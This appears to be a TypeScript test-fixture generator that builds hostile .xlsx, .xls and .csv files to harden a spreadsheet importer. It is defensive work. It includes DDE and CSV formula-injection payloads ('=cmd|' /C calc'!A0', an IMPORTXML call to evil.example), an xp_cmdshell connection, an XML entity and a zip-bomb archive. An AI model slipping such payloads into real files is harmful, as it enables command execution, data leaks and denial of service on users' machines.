import { writeFileSync } from 'node:fs';
import { bad, type HostileFile, odd } from './hostile-file.ts';
import { formula, label, number, record, shorts, xls } from './raw-xls.ts';
import {
  book,
  HEAD,
  one,
  R,
  relationships,
  row,
  S,
  said,
  shared,
  sheet,
  titles,
  toBook,
  toSheet,
  types,
  xlsx,
} from './raw-xlsx.ts';
import { blanksBehind, type RawMember, rawZip } from './raw-zip.ts';

const part = (name: string, content: string): RawMember => ({ name, data: Buffer.from(`${HEAD}${content}`) });
const withStyles = (inner: string, cells: string): Buffer =>
  xlsx({
    bookRels: `${toSheet}<Relationship Id="r3" Type="${R}/styles" Target="styles.xml"/>`,
    more: [part('xl/styles.xml', `<styleSheet xmlns="${S}">${inner}</styleSheet>`)],
    sheet: sheet(titles + row(2, said('A2', 'R90'), cells)),
  });
const cells = (...inner: readonly string[]): Buffer => xlsx({ sheet: sheet(titles + row(2, ...inner)) });
const besides = (kind: string, content: string): Buffer =>
  xlsx({
    bookRels: `${toSheet}<Relationship Id="r8" Type="${R}/${kind}" Target="${kind}.xml"/>`,
    more: [part(`xl/${kind}.xml`, content)],
  });

const books: readonly HostileFile[] = [
  odd('of-the-binary-kind.xlsx', xlsx({ types: types('application/vnd.ms-excel.sheet.binary.macroEnabled.main') })),
  odd(
    'of-the-strict-kind.xlsx',
    xlsx({
      book: book().replace(S, 'http://purl.oclc.org/ooxml/spreadsheetml/main'),
      sheet: sheet(titles + one).replace(S, 'http://purl.oclc.org/ooxml/spreadsheetml/main'),
    }),
  ),
  bad('of-xml-one-point-one.xlsx', xlsx({ sheet: sheet(titles + one).replace('version="1.0"', 'version="1.1"') })),
  odd(
    'in-utf-16-the-other-way.xlsx',
    xlsx({ sheet: Buffer.from(`\ufeff${sheet(titles + one).replace('UTF-8', 'UTF-16')}`, 'utf16le').swap16() }),
  ),
  odd(
    'links-to-elsewhere.xlsx',
    besides('externalLink', `<externalLink xmlns="${S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`),
  ),
  odd(
    'connections.xlsx',
    besides(
      'connections',
      `<connections xmlns="${S}"><connection id="1" type="5"><dbPr connection="Provider=x" command="xp_cmdshell"/></connection></connections>`,
    ),
  ),
  bad(
    'laughs-in-the-words.xlsx',
    xlsx({
      ...shared('<si><t>x</t></si>'),
      more: [
        {
          name: 'xl/sharedStrings.xml',
          data: Buffer.from(`${HEAD}<!DOCTYPE a [<!ENTITY a "aaa">]><sst xmlns="${S}"><si><t>&a;</t></si></sst>`),
        },
      ],
    }),
  ),
  odd(
    'words-in-words.xlsx',
    xlsx({
      ...shared(`${'<si>'.repeat(200)}<t>x</t>${'</si>'.repeat(200)}`),
      sheet: sheet(titles + row(2, '<c r="A2" t="s"><v>0</v></c>')),
    }),
  ),
  odd(
    'words-without-number.xlsx',
    xlsx({ ...shared('<si/>'.repeat(300_000)), sheet: sheet(titles + row(2, '<c r="A2" t="s"><v>299999</v></c>')) }),
  ),
  odd(
    'words-of-many-runs.xlsx',
    xlsx({
      ...shared(`<si>${'<r><rPr><b/></rPr><t>x</t></r>'.repeat(60_000)}</si>`),
      sheet: sheet(titles + row(2, '<c r="A2" t="s"><v>0</v></c>')),
    }),
  ),
  odd(
    'words-counted-wrongly.xlsx',
    xlsx({
      ...shared('<si><t>Ref</t></si>'),
      more: [
        part('xl/sharedStrings.xml', `<sst xmlns="${S}" count="4294967295" uniqueCount="-1"><si><t>x</t></si></sst>`),
      ],
    }),
  ),
  odd(
    'formulas-in-a-ring.xlsx',
    cells(
      '<c r="A2"><f t="shared" si="0" ref="A1:XFD1048576">B2</f><v>1</v></c>',
      '<c r="B2"><f t="array" ref="A1:XFD1048576">A2</f><v>2</v></c>',
    ),
  ),
  odd('a-formula-of-a-megabyte.xlsx', cells(`<c r="A2"><f>${'1+'.repeat(500_000)}1</f><v>1</v></c>`)),
  odd(
    'places-that-are-none.xlsx',
    cells(
      ...['A1:B2', 'a2', '$A$2', 'AAAA1', '2A', '', 'A', '1', 'A-1', 'A1e5', 'Ａ２', 'A0x2'].map((at) => said(at, 'x')),
    ),
  ),
  odd(
    'rows-that-are-none.xlsx',
    xlsx({
      sheet: sheet(
        titles +
          ['2147483648', '1e5', '0x10', '-0', '', 'two', '1.5', '٢']
            .map((at) => `<row r="${at}">${said('A2', 'x')}</row>`)
            .join(''),
      ),
    }),
  ),
  bad('a-row-past-counting.xlsx', xlsx({ sheet: sheet(titles + row(1_000_000, said('A1000000', 'x'))) })),
  odd(
    'a-dimension-past-counting.xlsx',
    xlsx({
      sheet: sheet(
        titles + one,
        '<dimension ref="A1:ZZZZZZZ99999999999"/><cols><col min="1" max="2147483647" width="1e308" hidden="1"/></cols>',
      ),
    }),
  ),
  odd(
    'rules-without-number.xlsx',
    xlsx({
      sheet: sheet(
        titles + one,
        '',
        '<conditionalFormatting sqref="A1:XFD1048576"><cfRule/></conditionalFormatting>'.repeat(50_000),
      ),
    }),
  ),
  odd(
    'merges-over-one-another.xlsx',
    xlsx({
      sheet: sheet(
        titles + one,
        '',
        `<mergeCells>${Array.from({ length: 40_000 }, (_, n) => `<mergeCell ref="A${1 + (n % 9)}:C${9 + (n % 7)}"/>`).join('')}</mergeCells>`,
      ),
    }),
  ),
  odd(
    'merges-that-go-back.xlsx',
    xlsx({
      sheet: sheet(
        titles + one,
        '',
        '<mergeCells><mergeCell ref="C9:A1"/><mergeCell ref="A1"/><mergeCell ref=""/><mergeCell ref="A1:B2:C3"/><mergeCell ref="A:A"/></mergeCells>',
      ),
    }),
  ),
  odd(
    'cells-of-no-kind.xlsx',
    cells(
      '<c r="A2" t="z"><v>1</v></c>',
      '<c r="B2" t="b"><v>7</v></c>',
      '<c r="C2" t="s"/>',
      '<c r="D2" t="d"><v>9999-99-99</v></c>',
      '<c r="E2" t="e"><v>#EVIL!</v></c>',
    ),
  ),
  odd(
    'numbers-in-other-letters.xlsx',
    cells(
      '<c r="A2"><v>1,5</v></c>',
      '<c r="B2"><v>١٢</v></c>',
      '<c r="C2"><v>1_000</v></c>',
      '<c r="D2"><v>Infinity</v></c>',
      '<c r="E2"><v> 1 </v></c>',
    ),
  ),
  odd(
    'formats-without-number.xlsx',
    withStyles(
      `<numFmts>${Array.from({ length: 100_000 }, (_, n) => `<numFmt numFmtId="${n}" formatCode="0"/>`).join('')}</numFmts><cellXfs>${'<xf numFmtId="200"/>'.repeat(100_000)}</cellXfs>`,
      '<c r="B2" s="99999"><v>1</v></c>',
    ),
  ),
  odd(
    'formats-that-bait.xlsx',
    withStyles(
      `<numFmts><numFmt numFmtId="200" formatCode="${'['.repeat(255)}"/><numFmt numFmtId="201" formatCode="${'&quot;'.repeat(255)}"/><numFmt numFmtId="-1" formatCode="[$-F800]d"/></numFmts><cellXfs><xf numFmtId="200"/><xf numFmtId="201"/><xf numFmtId="-1"/><xf numFmtId="x"/></cellXfs>`,
      '<c r="B2" s="0"><v>1</v></c><c r="C2" s="1"><v>2</v></c><c r="D2" s="2"><v>3</v></c><c r="E2" s="-1"><v>3</v></c>',
    ),
  ),
  odd(
    'a-calendar-before-time.xlsx',
    xlsx({
      book: book(undefined, '<workbookPr date1904="maybe"/>'),
      sheet: sheet(titles + row(2, '<c r="A2"><v>-99999999</v></c>', '<c r="B2"><v>2958466</v></c>')),
    }),
  ),
  odd(
    'a-sheet-of-a-strange-name.xlsx',
    xlsx({
      book: book(
        `<sheet name="${"'=cmd|' /C calc'!A0".replaceAll('&', '')}${'x'.repeat(5000)}" sheetId="1" r:id="r1"/>`,
      ),
    }),
  ),
  odd(
    'a-sheet-nobody-sees.xlsx',
    xlsx({ book: book('<sheet name="Risks" sheetId="1" state="veryHidden" r:id="r1"/>') }),
  ),
  bad('a-sheet-that-is-a-picture.xlsx', xlsx({ sheet: Buffer.from('89504e470d0a1a0a', 'hex') })),
  odd(
    'a-book-that-is-its-own-sheet.xlsx',
    xlsx({ bookRels: `<Relationship Id="r1" Type="${R}/worksheet" Target="../xl/workbook.xml"/>` }),
  ),
  bad(
    'two-hundred-and-one-sheets.xlsx',
    xlsx({
      book: book(Array.from({ length: 201 }, (_, n) => `<sheet name="S${n}" sheetId="${n + 1}" r:id="r1"/>`).join('')),
    }),
  ),
  bad('relationships-that-nobody-closes.xlsx', xlsx({ rels: relationships(toBook).replace('</Relationships>', '') })),
  bad('a-bomb-of-formulas.xlsx', rawZip([{ name: '[Content_Types].xml', ...blanksBehind(Buffer.alloc(0), 150) }])),
  odd(
    'headings-of-a-megabyte.xlsx',
    xlsx({ sheet: sheet(row(1, said('A1', 'R'.repeat(1 << 20)), said('B1', 'Risk')) + one) }),
  ),
  odd(
    'fifty-thousand-headings.xlsx',
    xlsx({
      sheet: sheet(row(1, ...Array.from({ length: 1999 }, () => '<c t="inlineStr"><is><t>Ref</t></is></c>')) + one),
    }),
  ),
  odd(
    'the-same-ref-ten-thousand-times.xlsx',
    xlsx({
      sheet: sheet(
        titles +
          Array.from({ length: 10_000 }, (_, n) =>
            row(n + 2, said(`A${n + 2}`, 'R90'), said(`B${n + 2}`, 'Roof')),
          ).join(''),
      ),
    }),
  ),
];

const old: readonly HostileFile[] = [
  odd(
    'numbers-that-are-none.xls',
    xls([
      {
        name: 'A',
        records: [
          label(0, 0, 'Ref'),
          number(1, 0, Number.NaN),
          number(1, 1, Number.POSITIVE_INFINITY),
          number(1, 2, -1e308),
        ],
      },
    ]),
  ),
  odd(
    'a-formula-that-never-said.xls',
    xls([
      {
        name: 'A',
        records: [
          label(0, 0, 'Ref'),
          formula(1, 0, Buffer.from('000000000000ffff', 'hex')),
          formula(1, 1, Buffer.from('0200ff000000ffff', 'hex')),
        ],
      },
    ]),
  ),
  odd(
    'merges-counted-wrongly.xls',
    xls([{ name: 'A', records: [label(0, 0, 'Ref'), record(0xe5, shorts(65_535, 0, 0))] }]),
  ),
  odd('letters-of-no-page.xls', xls([{ name: 'A', records: [label(0, 0, 'Ref')] }], [record(0x42, shorts(65_535))])),
  bad(
    'words-that-go-on-for-ever.xls',
    xls(
      [{ name: 'A', records: [label(0, 0, 'Ref')] }],
      [
        record(0xfc, Buffer.from('ffffffffffffffff0100', 'hex')),
        ...Array.from({ length: 200 }, () => record(0x3c, Buffer.from('01', 'hex'))),
      ],
    ),
  ),
];

const TITLES = 'Ref,Risk,Owner\r\n';
const utf16 = (words: string): Buffer => Buffer.from(words, 'utf16le');
const lists: readonly HostileFile[] = [
  bad('a-line-of-a-hundred-megabytes.csv', (path) => writeFileSync(path, Buffer.alloc(100 << 20, 0x78))),
  bad('a-line-of-nineteen-megabytes.csv', (path) => writeFileSync(path, `${TITLES}R1,${'x'.repeat(19 << 20)}`)),
  bad('quotes-of-nineteen-megabytes.csv', (path) => writeFileSync(path, `${TITLES}${'"'.repeat(19 << 20)}`)),
  odd('commas-of-nineteen-megabytes.csv', (path) => writeFileSync(path, `${TITLES}${','.repeat(19 << 20)}`)),
  odd('lines-of-nineteen-megabytes.csv', (path) => writeFileSync(path, `${TITLES}${'\n'.repeat(19 << 20)}`)),
  odd('quotes-that-open-on-each-line.csv', (path) => writeFileSync(path, `${TITLES}${'R1,"a\n'.repeat(1_000_000)}`)),
  odd('the-pound-of-windows.csv', Buffer.from(`${TITLES}R1,\xa31.2m \x80 \x93x\x94 \x81,x\r\n`, 'latin1')),
  odd('in-utf-16-without-a-mark.csv', utf16(`${TITLES}R1,Roof,x\r\n`)),
  odd('in-utf-16-the-other-way.csv', utf16(`\ufeff${TITLES}R1,Roof,x\r\n`).swap16()),
  odd('in-utf-16-with-half-a-pair.csv', utf16(`\ufeff${TITLES}R1,\ud800,x\r\n`)),
  odd(
    'in-utf-32.csv',
    Buffer.concat([
      Buffer.from('fffe0000', 'hex'),
      ...TITLES.split('').map((one_) => Buffer.from([one_.charCodeAt(0), 0, 0, 0])),
    ]),
  ),
  odd('in-utf-7.csv', `${TITLES}R1,+AKM-5,x\r\n`),
  odd('of-a-mainframe.csv', Buffer.from('d98586', 'hex')),
  odd(
    'three-encodings.csv',
    Buffer.concat([
      Buffer.from(`${TITLES}R1,\u00a3,x\r\n`),
      Buffer.from('R2,\xa3,x\r\n', 'latin1'),
      utf16('R3,x,x\r\n'),
    ]),
  ),
  odd('a-mark-in-the-middle.csv', `${TITLES}\ufeffR1,\ufeffRoof\ufeff,x\r\n`),
  odd('line-ends-of-every-kind.csv', 'Ref,Risk\nR1,a\r\nR2,b\rR3,c\u2028R4,d\u0085R5,e\u000bR6,f\n\r'),
  odd('it-says-what-parts-it.csv', 'sep=|\r\nRef|Risk\r\nR1|Roof\r\n'),
  odd('it-says-nonsense-parts-it.csv', 'sep=\u0000\r\nRef,Risk\r\nR1,Roof\r\n'),
  odd('parted-by-everything.csv', 'Ref;Risk,Owner\tx|y\r\nR1;a,b\tc|d\r\n'),
  odd(
    'nul-between-all-letters.csv',
    Buffer.from(`${TITLES}R1,Roof,x\r\n`.split('').flatMap((one_) => [one_.charCodeAt(0), 0])),
  ),
  odd(
    'formulas-of-every-kind.csv',
    `${TITLES}${["=cmd|' /C calc'!A0", '@SUM(1)', '+1+1', '-2+3', '\t=1', '\r=1', '＝1+1', '%0A=1', '=IMPORTXML("https://evil.example")', '|calc'].map((one_, n) => `R${n},"${one_.replaceAll('"', '""')}",x\r\n`).join('')}`,
  ),
  odd('names-that-look-alike.csv', `${TITLES}R\u200b01,a,x\r\nＲ01,b,x\r\n\u0280 01,c,x\r\nr01,d,x\r\n`),
  odd('ten-thousand-columns.csv', `${Array.from({ length: 10_001 }, (_, n) => `c${n}`).join(',')}\r\n1\r\n`),
  odd('a-heading-of-five-megabytes.csv', `${'h'.repeat(5 << 20)},Ref,Risk\r\n1,R1,x\r\n`),
  odd(
    'sums-that-deceive.csv',
    'Ref,Risk,Likelihood,Impact\r\nR1,x,"1.234.567,89",£1.2m (£0.3m)\r\nR2,x,１２,∞\r\nR3,x,1e5,0x5\r\nR4,x,5/5,½\r\n',
  ),
  odd(
    'days-that-deceive.csv',
    'Ref,Risk,Next review\r\nR1,x,00/00/0000\r\nR2,x,1/1/0001\r\nR3,x,29/02/1900\r\nR4,x,31/12/9999\r\nR5,x,March 32\r\nR6,x,01/02/03\r\nR7,x,2024-W60-9\r\n',
  ),
  odd('two-hundred-thousand-rows.csv', (path) =>
    writeFileSync(path, `Ref,Risk\r\n${Array.from({ length: 199_000 }, (_, n) => `R${n},x`).join('\r\n')}`),
  ),
];

/** Sheets of a forger who knows the formats. */
export const FORGED_SHEETS: readonly HostileFile[] = [...books, ...old, ...lists];
